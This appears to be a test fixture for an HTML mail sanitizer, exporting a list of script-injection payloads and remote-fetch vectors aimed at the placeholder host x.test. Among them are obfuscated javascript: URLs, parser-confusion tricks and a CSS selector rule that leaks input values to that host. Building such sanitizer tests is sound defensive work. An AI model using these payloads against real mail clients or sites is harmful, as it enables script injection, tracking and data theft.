/** Ways in which an HTML mail tries to run or to fetch something; for tests only. What is fetched is fetched from a host named `x.test`. */
// prettier-ignore
export const vectors = [
  '<script>alert(1)</script>', '<SCRIPT SRC=http://x.test/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)">', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="data:text/html,x">', '<embed src=x>',
  '<a href="javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:x">x</a>',
  '<form action=http://x.test><input name=a></form>', '<button formaction=javascript:alert(1)>x', '<meta http-equiv=refresh content="0;url=http://x.test">',
  '<base href="http://x.test/">', '<link rel=stylesheet href=http://x.test/x.css>', '<style>@import "http://x.test/x.css";</style>',
  '<style>input[value^="a"]{background:url(http://x.test/a)}</style>', '<div style="background:url(http://x.test/a)">x</div>',
  '<div style="background-image:url(http://x.test/a)">x', '<div style="width:expression(alert(1))">x', '<div style="position:fixed;top:0;left:0">x',
  '<div style="color:red;behavior:url(x)">x', '<table background="http://x.test/a">', '<body background="http://x.test/a" onload=alert(1)>x',
  '<img srcset="http://x.test/a 2x">', '<video src=http://x.test/a poster=http://x.test/b autoplay>', '<audio src=x onerror=alert(1)>',
  '<picture><source srcset="http://x.test/a"></picture>', '<input type=image src=http://x.test/a>', '<details open ontoggle=alert(1)>x',
  '<marquee onstart=alert(1)>x', '<font face="x" style="font-family:\'x\';background:url(//x.test)">x', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>', '<textarea><img src=x onerror=alert(1)></textarea>', '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="x"?>',
  '<a href="x" ping="http://x.test">x', '<p style="color:red" onclick="alert(1)" id=x name=y class=z>x', '<div data-remote="x" data-cid="y" style="x">x',
  '<isindex action=javascript:alert(1)>', '<bgsound src=http://x.test/a>', '<layer src=x>', '<applet code=x>', '<img lowsrc=http://x.test dynsrc=http://x.test>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<a href="//x.test/a">x</a>', '<img """><script>alert(1)</script>">', '<im\0g src=x onerror=alert(1)>',
]
